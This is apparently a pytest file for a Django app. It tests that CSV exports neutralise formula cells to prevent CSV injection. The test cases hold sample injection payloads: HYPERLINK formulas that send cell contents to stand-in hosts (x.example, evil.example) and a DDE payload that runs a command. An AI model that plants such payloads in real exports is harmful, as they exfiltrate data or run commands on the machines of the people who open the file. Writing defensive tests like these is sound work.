"""Downloads that a spreadsheet cannot turn into formulas (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from trygg.citizens.models import Venue
from trygg.core.csv_export import SafeWriter, neutralise


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Klicka")', '\'=HYPERLINK("http://x.example/?"&A1,"Klicka")'),
        ("+46 70 123", "'+46 70 123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Krogen = bra", "Krogen = bra"),
        ("-0,41", "-0,41"),
        ("-12", "-12"),
        (-0.41, -0.41),
        (None, None),
    ],
)
def test_formula_cells_are_written_as_text(value, written):
    assert neutralise(value) == written


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", 3, "ok"], ["@x", -1.5, ""]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "3", "ok"], ["'@x", "-1.5", ""]]


@pytest.mark.django_db
def test_the_receipt_export_for_skatteverket_writes_a_residents_formula_as_text(client, login, demo_orgs):
    formula = '=HYPERLINK("http://evil.example/"&A2,"Öppna")'
    Venue.objects.create(municipality_id="1780", name="Kroken", org_number="556036-0793", address="Torget 1")
    response = client.post(
        "/kvitto/rapportera/?m=1780",
        {"municipality": "1780", "venue_text": formula, "visited_on": "2026-01-05", "purchases": ["goods"]},
    )
    assert response.status_code == 302
    exported = login(demo_orgs["users"]["karlstad.samordnare"]).get("/invanare/kvitton/?format=csv")
    cells = [cell for row in csv.reader(io.StringIO(exported.content.decode())) for cell in row]
    assert "'" + formula in cells and formula not in cells
